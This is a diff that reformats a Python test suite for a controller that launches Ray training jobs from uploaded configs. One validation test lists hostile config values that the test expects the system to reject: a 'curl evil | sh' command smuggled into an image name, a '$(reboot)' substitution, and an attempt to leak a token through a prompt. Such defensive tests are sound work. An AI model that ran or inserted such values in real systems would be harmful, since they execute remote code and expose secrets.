@@ -39,8 +39,11 @@ def watch(server, body=None):
 
 
 def only_record(h):
-    [record] = [h.ctx.store.get(name.removeprefix("runs/").removesuffix(".json"))
-                for name in h.ctx.store.blobs.list("runs/") if not name.startswith("runs/active/")]
+    [record] = [
+        h.ctx.store.get(name.removeprefix("runs/").removesuffix(".json"))
+        for name in h.ctx.store.blobs.list("runs/")
+        if not name.startswith("runs/active/")
+    ]
     return record
 
 
@@ -51,9 +54,12 @@ def workers(h):
 def write_result(h, run_id, **extra):
     record = h.ctx.store.get(run_id)
     bucket, _, prefix = record.config["storage_path"].removeprefix("gs://").partition("/")
-    result = {"final_checkpoint": f"gs://{bucket}/{prefix}/{run_id}/checkpoint_2/checkpoint",
-              "best_checkpoint": f"gs://{bucket}/{prefix}/{run_id}/checkpoint_1/checkpoint",
-              "metrics": {"train_loss": 1.25, "num_tokens": 1000}, **extra}
+    result = {
+        "final_checkpoint": f"gs://{bucket}/{prefix}/{run_id}/checkpoint_2/checkpoint",
+        "best_checkpoint": f"gs://{bucket}/{prefix}/{run_id}/checkpoint_1/checkpoint",
+        "metrics": {"train_loss": 1.25, "num_tokens": 1000},
+        **extra,
+    }
     upload(bucket, f"{prefix}/{run_id}/result.json", result)
     return result
 
@@ -100,13 +106,16 @@ def test_duplicate_event_storm_launches_once(controller, functions_server, bucke
     assert len(controller.kube.names("rayjobs")) == 2
 
 
-@pytest.mark.parametrize("content,reason", [
-    (b"{not json", "not valid JSON"),
-    ({"name": "x", "lora": {"rank": 4}}, "lora.rank: Extra inputs are not permitted"),
-    ({"cluster": {"worker_image": "ray; curl evil | sh"}}, "cluster.worker_image: String should match pattern"),
-    ({"name": "$(reboot)"}, "name: String should match pattern"),
-    ({"prompts": {"system": "leak " + HF_TOKEN, "user": "{nope}"}}, "unknown placeholders"),
-])
+@pytest.mark.parametrize(
+    "content,reason",
+    [
+        (b"{not json", "not valid JSON"),
+        ({"name": "x", "lora": {"rank": 4}}, "lora.rank: Extra inputs are not permitted"),
+        ({"cluster": {"worker_image": "ray; curl evil | sh"}}, "cluster.worker_image: String should match pattern"),
+        ({"name": "$(reboot)"}, "name: String should match pattern"),
+        ({"prompts": {"system": "leak " + HF_TOKEN, "user": "{nope}"}}, "unknown placeholders"),
+    ],
+)
 def test_bad_configs_are_rejected_not_retried(controller, functions_server, bucket, content, reason):
     response = launch_upload(functions_server, bucket, "configs/bad.json", content)
     assert response.status_code == 200  # acknowledged: no retry storm
@@ -216,8 +225,11 @@ def test_run_to_success_records_results_and_scales_down(controller, functions_se
     watch(functions_server)  # nothing changed: no writes, no patches
     assert h.kube.calls("PATCH") == patches
     result = write_result(h, run_id)
-    h.kube.set_status("rayjobs", run_id, {"jobStatus": "SUCCEEDED", "jobDeploymentStatus": "Complete",
-                                          "endTime": "2026-12-02T10:00:00Z"})
+    h.kube.set_status(
+        "rayjobs",
+        run_id,
+        {"jobStatus": "SUCCEEDED", "jobDeploymentStatus": "Complete", "endTime": "2026-12-02T10:00:00Z"},
+    )
     watch(functions_server, {"kind": "finished", "run_id": run_id})
     record = h.ctx.store.get(run_id)
     assert record.state == State.SUCCEEDED and record.settled
@@ -239,8 +251,11 @@ def test_no_scale_down_while_another_run_needs_the_workers(controller, functions
     watch(functions_server)
     assert h.ctx.store.get(runs[1]).state == State.SUCCEEDED
     assert workers(h)["replicas"] == 2
-    h.kube.set_status("rayjobs", runs[2], {"jobStatus": "FAILED", "jobDeploymentStatus": "Failed",
-                                           "reason": "AppFailed", "message": "OOM"})
+    h.kube.set_status(
+        "rayjobs",
+        runs[2],
+        {"jobStatus": "FAILED", "jobDeploymentStatus": "Failed", "reason": "AppFailed", "message": "OOM"},
+    )
     watch(functions_server)
     record = h.ctx.store.get(runs[2])
     assert record.state == State.FAILED and record.reason == "AppFailed; OOM"
@@ -302,8 +317,9 @@ def test_deployment_failed_while_job_running_is_terminal(controller, functions_s
     h = controller
     launch_upload(functions_server, bucket, "configs/bug.json", QUICK)
     run_id = only_record(h).run_id
-    h.kube.set_status("rayjobs", run_id, {"jobStatus": "RUNNING", "jobDeploymentStatus": "Failed",
-                                          "reason": "DeadlineExceeded"})
+    h.kube.set_status(
+        "rayjobs", run_id, {"jobStatus": "RUNNING", "jobDeploymentStatus": "Failed", "reason": "DeadlineExceeded"}
+    )
     watch(functions_server)
     assert h.ctx.store.get(run_id).state == State.FAILED
     assert h.kube.names("rayjobs") == []
@@ -318,8 +334,10 @@ def test_launch_messages_inline_uri_and_nightly(controller, functions_server, bu
         assert post(functions_server["launch"], pubsub_event(nightly, message_id=message_id)).status_code == 200
     post(functions_server["launch"], pubsub_event({"config_uri": f"gs://{bucket}/library/missing.json"}))
     post(functions_server["launch"], pubsub_event(b"\x00 not json"))
-    records = {r.source["kind"] + ":" + r.state.value: r for r in
-               (h.ctx.store.get(n[5:-5]) for n in h.ctx.store.blobs.list("runs/") if not n.startswith("runs/active"))}
+    records = {
+        r.source["kind"] + ":" + r.state.value: r
+        for r in (h.ctx.store.get(n[5:-5]) for n in h.ctx.store.blobs.list("runs/") if not n.startswith("runs/active"))
+    }
     today = dt.datetime.now(dt.UTC).strftime("%Y%m%d")
     assert records["message:SUBMITTED"].run_id.startswith("crm-")
     assert records["nightly:SUBMITTED"].run_id == f"nightly-{today}"
